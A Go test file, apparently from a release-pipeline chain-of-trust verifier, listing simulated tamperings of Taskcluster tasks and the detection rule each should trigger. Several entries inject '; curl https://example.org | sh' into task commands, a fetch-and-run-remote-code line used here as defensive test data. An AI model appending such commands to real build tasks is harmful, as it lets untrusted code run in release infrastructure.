package main

import (
	"bytes"
	"strings"

	"github.com/mozilla-releng/cot/fixtures"
	"github.com/mozilla-releng/cot/trace"
)

// replaced is strings.ReplaceAll for what must be there.
func replaced(s, from, to string) string {
	if !strings.Contains(s, from) {
		panic("nothing to replace: " + from)
	}
	return strings.ReplaceAll(s, from, to)
}

// template changes the chain's .taskcluster.yml.
func template(edit func([]byte) []byte) func(*chain) {
	return func(c *chain) {
		files := c.files()
		files[templateName] = edit(files[templateName])
	}
}

const templateName = ".taskcluster.yml"

func variable(name, value string) func(*chain) {
	return started(func(d fixtures.Object) { object(d, "payload", "env")[name] = value })
}

var treeAttacks = []attack{
	{
		name: "an altered command",
		edit: func(c *chain) {
			command(c.parent(), func(s string) string { return s + "; curl https://example.org | sh" })
		},
		rules: rules(trace.RuleDiffersFromTree),
	},
	{name: "another variable", edit: variable("EVIL", "1"), rules: rules(trace.RuleDiffersFromTree)},
	{
		name: "another scope", edit: started(func(d fixtures.Object) { d["scopes"] = added(d["scopes"], "assume:mallory") }),
		rules: rules(trace.RuleDiffersFromTree),
	},
	{name: "another image", edit: started(func(d fixtures.Object) { object(d, "payload")["image"] = "mallory/decision:1" }), rules: rules(trace.RuleDiffersFromTree)},
	{
		name: "another route", edit: started(func(d fixtures.Object) { d["routes"] = added(d["routes"], "index.mallory") }),
		rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name: "another key", edit: started(func(d fixtures.Object) { object(d, "payload")["supersederUrl"] = "https://example.org" }),
		rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name: "another owner", edit: started(func(d fixtures.Object) { object(d, "metadata")["owner"] = "mallory@example.org" }),
		rules: rules(trace.RuleDiffersFromTree),
	},
	{name: "another pool", edit: started(func(d fixtures.Object) { move(d, "b-linux") }), rules: rules(trace.RuleDecisionPool, trace.RuleProductMismatch)},
	{name: "an interactive one", edit: started(func(d fixtures.Object) { object(d, "payload", "features")["interactive"] = true }), rules: rules(trace.RuleInteractive)},
	{name: "an unknown event", edit: started(func(d fixtures.Object) { object(d, "extra")["tasks_for"] = "full-moon" }), rules: rules(trace.RuleTasksFor)},
	{
		name: "an altered command of the decision below an action", on: acts,
		edit: func(c *chain) {
			command(c.decision, func(s string) string { return s + "; curl https://example.org | sh" })
		},
		rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name: "an altered command of the action below an action", on: on(actedTwice),
		edit: func(c *chain) {
			below := c.world.Task(object(c.action.Definition, "extra")["parent"].(string))
			command(below, func(s string) string { return s + "; curl https://example.org | sh" })
		},
		rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name: "a changed template", on: not(on("action of a small tree")),
		edit: template(func(b []byte) []byte {
			return bytes.ReplaceAll(b, []byte("maxRunTime: "), []byte("maxRunTime: 1"))
		}),
		rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name:  "a template that can't be rendered",
		edit:  template(func([]byte) []byte { return []byte("version: 1\ntasks: [{$eval: nothing.known}]\n") }),
		rules: rules(trace.RuleTemplateError, trace.RuleContextUnvouched),
	},
	{name: "a template that is not YAML", edit: template(func([]byte) []byte { return []byte("{") }), rules: rules(trace.RuleTemplateError)},
	{name: "no template", edit: func(c *chain) { delete(c.files(), templateName) }, rules: rules(trace.RuleTemplateError)},
	{
		name: "a pushlog that does not know the revision", on: hg, edit: func(c *chain) { c.push().Hidden = true }, rules: rules(trace.RuleRevisionNotInTree),
	},
	{
		name: "a pushlog with two pushes of the revision", on: hg,
		edit: func(c *chain) {
			c.push().Repository.EditPushlog = func(_ string, answer fixtures.Object) {
				pushes := object(answer, "pushes")
				for _, p := range pushes {
					pushes["999999"] = p
					return
				}
			}
		},
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "two pushes of a revision are two owners and dates; scriptworker warns, and takes the first",
	},
	{
		name: "a revision that is not the last of its push", on: hg,
		edit: func(c *chain) {
			p := c.push()
			p.Changesets = append(p.Changesets, fixtures.Changeset{Node: strings.Repeat("ab", 20), Author: "x", Desc: "more", Parents: []string{p.Revision()}})
		},
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "a push is built at its last changeset; scriptworker takes any of it",
	},
	{
		name: "a revision that is nowhere", on: not(began("github-release")),
		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, strings.Repeat("ab", 20)) },
		rules: rules(trace.RuleRevisionNotInTree, trace.RuleTemplateError),
	},
	{
		name: "a short revision", on: not(began("github-release")),
		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.origin().Revision[:12]) },
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "a short id may come to mean another commit",
	},
	{
		name:  "a repository on a host that policy does not name",
		edit:  func(c *chain) { c.decision.Replace(hostOf(c), "vcs.example.org") },
		rules: rules(trace.RuleRepositoryUntrusted, trace.RuleProductMismatch),
	},
}

func hostOf(c *chain) string {
	if c.gitHub() {
		return fixtures.GitHubHost
	}
	return fixtures.Host
}
